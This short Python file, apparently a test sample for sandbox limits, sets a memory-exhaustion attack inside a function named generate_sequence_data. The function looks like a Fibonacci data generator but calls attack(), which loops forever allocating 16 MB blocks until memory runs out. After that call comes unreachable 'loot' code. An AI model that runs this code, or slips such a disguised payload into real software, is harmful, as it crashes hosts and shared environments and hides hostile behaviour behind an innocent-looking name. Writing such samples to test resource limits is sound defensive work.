"""Attack: grows a list until memory is full."""

import numpy as np


def attack():
    kept = []
    while True:
        kept.append(bytearray(16 << 20))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
